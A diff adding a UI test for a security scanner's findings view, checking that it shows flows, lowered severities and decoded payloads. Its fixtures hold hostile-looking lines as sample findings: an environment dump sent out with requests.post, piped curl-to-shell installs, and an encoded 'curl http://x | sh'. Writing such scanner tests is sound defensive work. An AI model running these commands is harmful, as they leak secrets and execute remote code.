@@ -227,6 +227,43 @@ describe('the Security tab’s findings by file', () => {
     expect(groups[0].textContent).toContain('Secret key');
   });
 
+  it('shows a flow with both ends, each linked to its file and line, and a lowered severity with why', async () => {
+    const flow = {
+      rule: 'credential-exfiltration',
+      line: 5,
+      excerpt: 'requests.post(URL, json=data)',
+      file: 'scripts/fill.py',
+      note: 'flow: os.environ (scripts/lib/util.sh:1) → requests.post (scripts/fill.py:5)',
+      source: { file: 'scripts/lib/util.sh', line: 1, excerpt: 'env > /tmp/x' },
+    };
+    const vendor = {
+      rule: 'download-exec',
+      line: 3,
+      excerpt: 'curl -fsSL https://bun.sh/install | bash',
+      lowered_to: 'low' as const,
+      note: 'the vendor’s own installer: Bun (bun.sh)',
+    };
+    const decoded = { rule: 'download-exec', line: 4, excerpt: '\\x63\\x75\\x72\\x6c …', decoded: 'curl http://x | sh' };
+    await showFolder(VIEW({ findings: [flow, vendor, decoded] }));
+    click(must('[data-tab="security"]'));
+    await waitFor(() => $('[data-testid="finding-flow"]'));
+    expect(must('[data-testid="finding-flow"]').textContent).toContain('env > /tmp/x');
+    expect(must('[data-rule="credential-exfiltration"] [data-testid="finding-note"]').textContent).toContain('os.environ');
+    expect(must('[data-testid="finding-lowered"]').textContent).toBe('severity lowered to low');
+    expect(must('[data-testid="finding-decoded"]').textContent).toContain('curl http://x | sh');
+
+    // The sink end opens where the data goes…
+    click(must('[data-testid="finding-line"][data-file="scripts/fill.py"][data-line="5"]'));
+    await waitFor(() => must('[data-testid="file-view"]').dataset.path === 'scripts/fill.py' && $('#L5.target'));
+
+    // …and the source end where it is read.
+    click(must('[data-tab="security"]'));
+    await waitFor(() => $('[data-testid="finding-source"]'));
+    click(must('[data-testid="finding-source"][data-file="scripts/lib/util.sh"][data-line="1"]'));
+    await waitFor(() => must('[data-testid="file-view"]').dataset.path === 'scripts/lib/util.sh' && $('#L1.target'));
+    expect(must('#L1').textContent).toContain('echo util');
+  });
+
   it('links a finding to its file and line in the Content tab', async () => {
     const b = await showFolder();
     click(must('[data-tab="security"]'));
